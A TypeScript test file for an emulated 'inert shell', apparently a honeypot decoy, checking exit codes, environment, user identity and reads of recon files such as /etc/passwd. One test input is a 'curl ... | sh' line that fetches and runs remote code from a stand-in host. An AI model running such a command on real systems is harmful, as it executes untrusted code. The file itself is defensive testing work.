import { describe, expect, it } from 'vitest';
import { analyseWithCore } from './analysis.js';
import { parseTrapConfig } from './config.js';
import { emulate, type ProcessView } from './output.js';
import { ROOT_USER, resolveUser } from './users.js';

const cfg = parseTrapConfig({});
const proc: ProcessView = { hostname: 'c0ffee123456', user: ROOT_USER, workdir: '/', env: ['PATH=/usr/bin:/bin', 'A=1'] };
const run = (cmd: string[], view: ProcessView = proc) => emulate(analyseWithCore({ cmd }).commands, cfg, view);

describe('emulate (the inert shell)', () => {
  it('exit statuses: false, exit N (mod 256), the last command\'s status, exit with no number', () => {
    expect(run(['false']).exitCode).toBe(1);
    expect(run(['sh', '-c', 'exit 3']).exitCode).toBe(3);
    expect(run(['sh', '-c', 'echo a; exit 300; echo b'])).toEqual({ stdout: 'a\n', exitCode: 44 });
    expect(run(['sh', '-c', 'false; exit'])).toEqual({ stdout: '', exitCode: 1 });
    expect(run(['sh', '-c', 'curl -s http://192.0.2.1/x | sh']).exitCode).toBe(0);
  });

  it('environment, working directory and host name of the process', () => {
    expect(run(['sh', '-c', 'echo $A ${A}x $HOME $HOSTNAME; cd /etc; pwd; cd ..; pwd; echo $?']).stdout).toBe('1 1x /root c0ffee123456\n/etc\n/\n0\n');
    expect(run(['pwd'], { ...proc, workdir: '/srv' }).stdout).toBe('/srv\n');
    expect(run(['printenv']).stdout).toBe('HOSTNAME=c0ffee123456\nHOME=/root\nPATH=/usr/bin:/bin\nA=1\nSHLVL=1\nPWD=/\n');
  });

  it('the user: id, whoami and $HOME follow it; a uid without a name has no login name', () => {
    const u = resolveUser('1000');
    if (!u.ok) throw new Error(u.error);
    const view = { ...proc, user: u.user };
    expect(run(['sh', '-c', 'id; id -u; echo $HOME'], view).stdout).toBe('uid=1000 gid=0(root) groups=0(root)\n1000\n/\n');
    expect(run(['whoami'], view)).toEqual({ stdout: '', exitCode: 1 });
    expect(run(['id', '-un'], view)).toEqual({ stdout: '', exitCode: 1 });
  });

  it('recon files answer from the decoy host', () => {
    expect(run(['cat', '/etc/hostname']).stdout).toBe('c0ffee123456\n');
    expect(run(['cat', '/proc/1/cgroup']).stdout).toBe('0::/\n');
    expect(run(['sh', '-c', 'cd /etc && cat passwd']).stdout).toMatch(/^root:x:0:0:/);
  });
});
